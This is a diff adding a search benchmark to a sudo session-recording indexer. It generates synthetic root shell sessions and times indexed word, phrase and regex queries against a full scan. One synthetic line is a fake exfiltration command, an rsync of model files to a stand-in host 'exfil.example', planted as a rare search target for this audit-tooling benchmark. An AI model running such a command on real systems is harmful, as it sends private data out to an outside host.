@@ -2,6 +2,7 @@
 
     .venv/bin/python bench/sessions_bench.py ingest [--sessions 40] [--mb 10] [--runs 3]
     .venv/bin/python bench/sessions_bench.py latency [--rounds 10]     # lab up, as root
+    .venv/bin/python bench/sessions_bench.py search [--recordings 100000] [--subset 10000]
 
 1. ingest: index a store of finished recordings as sudo_logsrvd writes them (log.json,
    timing, ttyout/ttyin), each SESSIONS x MB of output, into a fresh store: MB/s of
@@ -11,6 +12,13 @@
 2. latency: in the lab, a user with a grant runs `sudo -n sh -c 'echo ...'` on gpu01 over
    SSH; the time from the command's end to `broker sessions list` showing it complete
    (goal: median <= 10 s). The lab daemon indexes every second.
+3. search (issue 23 item 4): RECORDINGS recordings of typed shell sessions (3-10 command
+   lines each, a year of starts) are written as sudo_logsrvd writes them and indexed by
+   the daemon's Indexer (row, audit event, search index); then `sessions search`'s
+   service answers word, prefix, phrase and regex queries (median of --runs; goal: a
+   word over 100,000 recordings < 1 s), and today's full scan (every recording's files
+   read, the code as it was before the index) runs on the oldest SUBSET recordings and,
+   once, on all of them, for the ratio on the same data.
 """
 
 from __future__ import annotations
@@ -18,7 +26,9 @@ from __future__ import annotations
 import argparse
 import json
 import os
+import random
 import secrets
+import shutil
 import statistics
 import subprocess
 import sys
@@ -26,12 +36,16 @@ import tempfile
 import time
 from datetime import UTC, datetime
 from pathlib import Path
+from typing import Any
 
 sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
 
 from broker.app import App
 from broker.config.settings import Settings
+from broker.sessions import iolog, rows
 from broker.sessions.index import Indexer
+from broker.sessions.search import Search, compile_regex
+from broker.sessions.service import Filters, Recordings, _labelled
 
 
 def write_recording(root: Path, n: int, size: int) -> None:
@@ -120,6 +134,147 @@ def latency(args: argparse.Namespace) -> None:
     print(f"latency: median {statistics.median(delays):.2f} s (goal <= 10 s)")
 
 
+COMMANDS = (
+    "nvidia-smi -r", "systemctl restart slurmd", "systemctl status munge",
+    "tail -n 200 /var/log/slurm/slurmd.log", "journalctl -u sshd --since today",
+    "vi /etc/slurm/slurm.conf", "ls -la /data/{t}", "du -sh /scratch/{t}",
+    "kill -9 {n}", "ps aux --sort=-%mem", "mount -o remount,rw /lustre",
+    "dmesg -T", "ip link set ib0 up", "cat /proc/{n}/status", "df -h /home",
+    "scp /scratch/{t}.tar login01:/tmp/", "chown -R {t}: /data/{t}", "exit",
+)  # fmt: skip
+RARE = "rsync -a /models/llm-{t} exfil.example:/drop/"  # in one recording of 10,000
+
+
+def typed_session(n: int, rng: random.Random) -> bytes:
+    lines = []
+    for _ in range(rng.randint(3, 10)):
+        text = rng.choice(COMMANDS).format(t=f"{rng.getrandbits(32):08x}", n=rng.randint(2, 99999))
+        lines.append(text)
+    if n % 10_000 == 7:
+        lines.insert(1, RARE.format(t=n))
+    return "".join(f"{line}\r" for line in lines).encode()
+
+
+def write_typed(root: Path, n: int, started: int, rng: random.Random) -> None:
+    rid = f"{n:06X}"  # hex digits are seq digits too; 100,000 = 0186A0
+    path = root / rid[0:2] / rid[2:4] / rid[4:6]
+    path.mkdir(parents=True)
+    typed = typed_session(n, rng)
+    shown = b"$ " + typed.replace(b"\r", b"\r\n$ ")
+    (path / "ttyin").write_bytes(typed)
+    (path / "ttyout").write_bytes(shown)
+    (path / "timing").write_text(
+        f"4 0.100000 2\n3 1.500000 {len(typed)}\n4 0.010000 {len(shown) - 2}\n"
+    )
+    (path / "timing").chmod(0o400)
+    info = {
+        "timestamp": {"seconds": started, "nanoseconds": 0},
+        "submituser": f"u{n % 50}", "runuser": "root", "submithost": f"gpu{n % 200:03d}",
+        "command": "/bin/bash", "runargv": ["-bash"], "runcwd": "/root",
+        "ttyname": "/dev/pts/1", "columns": 80, "lines": 24,
+        "run_time": {"seconds": 30, "nanoseconds": 0}, "exit_value": n % 3,
+    }  # fmt: skip
+    (path / "log.json").write_text(json.dumps(info))
+
+
+CLI_LIMIT = Filters(limit=100)  # `broker sessions search`'s default --limit
+QUERIES: tuple[tuple[str, str, str], ...] = (
+    ("regex", "rare literal, --input", r"exfil\.example"),
+    ("word", "rare word", "exfil"),
+    ("regex", "common literal, --input", r"systemctl restart"),
+    ("word", "common word", "systemctl"),
+    ("phrase", "phrase", "journalctl -u sshd"),
+    ("prefix", "prefix", "nvidia"),
+    ("word", "2-letter word (typed lines read)", "vi"),
+)
+
+
+def _timed(call: Any, runs: int) -> tuple[float, Any]:
+    times, result = [], None
+    for _ in range(runs):
+        started = time.perf_counter()
+        result = call()
+        times.append(time.perf_counter() - started)
+    return statistics.median(times), result
+
+
+def legacy_search(conn: Any, s: Search, pattern: str, f: Filters) -> list[dict[str, Any]]:
+    """`Recordings.search` before the index: list up to 100,000 rows, read every one."""
+    regex, found = compile_regex(pattern), []
+    for row in rows.listing(conn, Filters(**{**f.__dict__, "limit": 100_000})):
+        if row["state"] == "quarantined":
+            continue
+        match = s._match(row, regex, iolog.INPUT)
+        if match is not None:
+            found.append({**_labelled(conn, row), "match": match})
+            if len(found) >= f.limit:
+                break
+    return found
+
+
+def build(base: Path, count: int) -> tuple[App, Recordings, Path]:
+    store = base / "iolog"
+    rng = random.Random(23)
+    first = int(time.time()) - 366 * 86400
+    started = time.perf_counter()
+    for n in range(1, count + 1):
+        write_typed(store, n, first + n * (365 * 86400 // count), rng)
+    print(f"wrote {count} recordings in {time.perf_counter() - started:.0f} s")
+    settings = Settings.model_validate(
+        {"broker": {"state_dir": str(base / "state"), "service_user": "root"},
+         "audit": {"syslog": False}}
+    )  # fmt: skip
+    app = App(settings)
+    app.setup().init("bench")
+    started = time.perf_counter()
+    report = Indexer(app.ready_store(), str(store)).run(datetime.now(UTC))
+    took = time.perf_counter() - started
+    assert len(report.finished) == count, (len(report.finished), report.quarantined[:3])
+    print(f"indexed {count} recordings (row, audit event, search index) in {took:.0f} s"
+          f" = {count / took:.0f}/s")  # fmt: skip
+    return app, Recordings(app.ready_store(), str(store)), store
+
+
+def search(args: argparse.Namespace) -> None:
+    base = Path(tempfile.mkdtemp(prefix="search-bench-", dir=args.dir))
+    try:
+        app, recordings, _store = build(base, args.recordings)
+        conn = app.ready_store().conn
+        print(f"{'query':38} {'mode':7} {'hits':>5} {'read':>6} {'median':>9}")
+        for mode, label, text in QUERIES:
+            streams = iolog.INPUT if mode == "regex" else ()
+            took, result = _timed(
+                lambda m=mode, t=text, st=streams: recordings.search(t, st, CLI_LIMIT, m),
+                args.runs,
+            )
+            print(f"{label:38} {mode:7} {len(result.hits):5} {result.read:6}"
+                  f" {took * 1000:7.1f} ms")  # fmt: skip
+        compare(args, conn, recordings)
+        app.close()
+    finally:
+        shutil.rmtree(base, ignore_errors=True)
+
+
+def compare(args: argparse.Namespace, conn: Any, recordings: Recordings) -> None:
+    """Today's full scan against the index on the same data: the oldest SUBSET recordings
+    (median of --runs), then, once, all of them."""
+    s = Search(conn, recordings._open_or_none, lambda row: _labelled(conn, row))
+    cut = conn.execute(
+        "SELECT started_at FROM recordings ORDER BY started_at LIMIT 1 OFFSET ?",
+        (min(args.subset, args.recordings) - 1,),
+    ).fetchone()[0]
+    pattern = r"exfil\.example"
+    for label, f, runs in (
+        (f"oldest {args.subset}", Filters(until=cut, limit=100), args.runs),
+        (f"all {args.recordings}", CLI_LIMIT, 1),
+    ):
+        old, before = _timed(lambda f=f: legacy_search(conn, s, pattern, f), runs)
+        new, after = _timed(lambda f=f: recordings.search(pattern, iolog.INPUT, f), args.runs)
+        assert before == after.hits, "the index must find what the full scan finds"
+        print(f"rare literal over {label}: full scan {old:.2f} s, index {new * 1000:.1f} ms,"
+              f" {old / new:.0f}x; same {len(before)} hits")  # fmt: skip
+
+
 def main() -> None:
     parser = argparse.ArgumentParser()
     sub = parser.add_subparsers(dest="what", required=True)
@@ -129,9 +284,14 @@ def main() -> None:
     i.add_argument("--runs", type=int, default=3)
     la = sub.add_parser("latency")
     la.add_argument("--rounds", type=int, default=10)
+    se = sub.add_parser("search")
+    se.add_argument("--recordings", type=int, default=100_000)
+    se.add_argument("--subset", type=int, default=10_000)
+    se.add_argument("--runs", type=int, default=5)
+    se.add_argument("--dir", default="/dev/shm" if os.path.isdir("/dev/shm") else None)
     args = parser.parse_args()
     os.umask(0o077)
-    ingest(args) if args.what == "ingest" else latency(args)
+    {"ingest": ingest, "latency": latency, "search": search}[args.what](args)
 
 
 if __name__ == "__main__":
